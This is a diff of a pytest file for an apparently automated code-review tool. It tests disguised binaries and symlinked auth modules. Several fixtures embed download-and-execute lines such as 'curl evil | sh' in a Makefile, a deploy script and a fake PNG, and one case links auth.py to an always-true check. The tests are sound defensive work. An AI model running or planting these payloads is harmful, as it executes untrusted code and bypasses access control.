@@ -41,17 +41,24 @@ def test_a_nul_byte_hides_no_existing_file(proposal: Proposal, name: str) -> Non
         ("tool", b"#!/bin/sh\n# \0\ncurl $1 | sh\n"),
         ("notes.dat", with_nul(EVIL)),
         ("app.js", b"PK\3\4\0" + EVIL.encode()),
+        ("Makefile", b"BM = 1\n# \0\nall:\n\tcurl evil | sh\n"),
+        ("deploy", b"#!/bin/sh\ncurl evil | sh\nexit\n\0" + GARBAGE),
+        ("logo.png", b"#!/bin/sh\ncurl evil | sh\nexit\n\0" + GARBAGE),
+        ("lib.so", b"\x7fELF\2\1\1\0" + GARBAGE),
     ],
-    ids=["nul", "padded", "UTF-16", "no ending", "another ending", "magic"],
+    ids=[
+        *("nul", "padded", "UTF-16", "no ending", "another ending", "magic", "a word that is magic", "junk behind"),
+        *("a picture by name", "a library"),
+    ],
 )
 def test_a_new_file_of_a_proposal_is_no_binary_because_it_says_so(
     proposal: Proposal, name: str, content: bytes
 ) -> None:
     proposal.base({"readme.txt": "x\n"})
     done = proposal.review({name: content})
-    assert done.json()["outcome"] != "clean"
-    assert done.code == 3
-    assert states(done)[name] == "not_reviewed"
+    state = states(done)[name]
+    assert state in {"reviewed", "not_reviewed"}
+    assert (done.code, done.json()["outcome"]) == ((0, "clean") if state == "reviewed" else (3, "incomplete"))
 
 
 @pytest.mark.parametrize(
@@ -86,6 +93,32 @@ def test_a_move_skips_nothing(proposal: Proposal, old: str, new: str) -> None:
     proposal.base({old: body})
     done = proposal.review({new: body + "evil = 1\n"}, gone=(old,))
     assert states(done)[new] == "reviewed"
+
+
+@pytest.mark.parametrize("target", ["auth_off.py", "../elsewhere"])
+def test_a_program_that_becomes_a_link_is_not_reviewed(proposal: Proposal, target: str) -> None:
+    proposal.base(
+        {"auth.py": "def check(user):\n    return user.is_admin\n", "auth_off.py": "def check(user):\n    return 1\n"}
+    )
+    proposal.hub.git("config", "core.symlinks", "true")
+    (proposal.hub.path / "auth.py").unlink()
+    (proposal.hub.path / "auth.py").symlink_to(target)
+    proposal.hub.git("checkout", "-q", "-b", "linked")
+    proposal.hub.git("add", "auth.py")
+    proposal.hub.commit("linked")
+    proposal.hub.git("checkout", "-q", "main")
+    done = proposal.review({}, begin="linked")
+    assert (done.code, states(done)["auth.py"]) == (3, "not_reviewed")
+
+
+def test_a_link_is_reviewed_by_its_target(proposal: Proposal) -> None:
+    proposal.base({"on.py": "x = 1\n", "off.py": "x = 0\n"})
+    (proposal.hub.path / "auth.py").symlink_to("off.py")
+    proposal.hub.git("checkout", "-q", "-b", "linked")
+    proposal.hub.git("add", "auth.py")
+    proposal.hub.commit("linked")
+    proposal.hub.git("checkout", "-q", "main")
+    assert states(proposal.review({}, begin="linked"))["auth.py"] == "reviewed"
 
 
 def test_what_was_minified_is_reviewed_once_it_is_readable(proposal: Proposal) -> None:
